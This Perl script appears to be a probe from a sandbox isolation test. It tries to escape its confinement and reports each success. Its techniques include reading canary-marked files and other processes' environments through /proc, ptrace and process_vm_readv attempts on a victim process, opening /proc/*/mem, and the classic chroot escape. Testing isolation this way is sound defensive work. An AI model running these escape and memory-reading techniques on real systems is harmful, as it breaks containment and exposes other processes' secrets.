# Tries to reach what is no business of a step, and prints a line for each thing it got:
#   attack.pl MARK FILE... - MARK is in an environment, FILEs are absolute paths of the machine; a FILE that is a directory is written to.
# FILEs are also looked for in the roots of other processes. $CALLS are the numbers of ptrace and process_vm_readv, $VICTIM is the process of the machine whose environment has MARK.
$| = 1;
my ($mark, @files) = @ARGV;
my ($ptrace, $read) = split /,/, $ENV{CALLS};
# In a /proc of another namespace it has another number.
my ($pid, $victim) = (readlink('/proc/self'), $ENV{VICTIM});

sub content {
    my ($path) = @_;
    open(my $in, '<', $path) or return '';
    sysread($in, my $text, 1 << 16);
    return $text;
}

sub files {
    my ($how, $root) = @_;
    for my $file (@files) {
        if (-d "$root$file") {
            print "$how: write $file\n" if open(my $out, '>', "$root$file/made-by-$how");
        } elsif (content("$root$file") =~ /$mark/) {
            print "$how: read $file\n";
        }
    }
}

sub processes {
    my ($how, $proc) = @_;
    opendir(my $dir, $proc) or return;
    for my $process (grep { /^\d+$/ && $_ != $$ && $_ != $pid } readdir($dir)) {
        print "$how: environment\n" if content("$proc/$process/environ") =~ /$mark/ && $process == $victim;
        files("$how-root", "$proc/$process/root") if -d "$proc/$process/root/.";
        files("$how-cwd", "$proc/$process/cwd/../../../../../../../../..") if -d "$proc/$process/cwd/.";
        print "$how: memory of $process\n" if open(my $mem, '+<', "$proc/$process/mem");
    }
}

files('path', '');
processes('proc', '/proc');
for my $process ($victim, 1 .. 400) {
    next if $process == $$ || $process == $pid;
    print "trace: $process\n" if syscall($ptrace, 0x4206, $process, 0, 0) == 0;
    my $buffer = "\0" x 64;
    my $vector = pack('pQ', $buffer, 64);
    my $from = pack('QQ', 0x400000, 64);
    print "memory: $process\n" if syscall($read, $process, $vector, 1, $from, 1, 0) > 0;
}
print "signal: the victim\n" if kill(0, $victim);
# The old way out of a chroot.
mkdir('/way-out');
if (chroot('/way-out')) {
    chdir('..') for 1 .. 64;
    chroot('.');
    files('escape', '');
    processes('escape-proc', '/proc');
    chdir('/');
    processes('escape-relative-proc', 'proc');
}
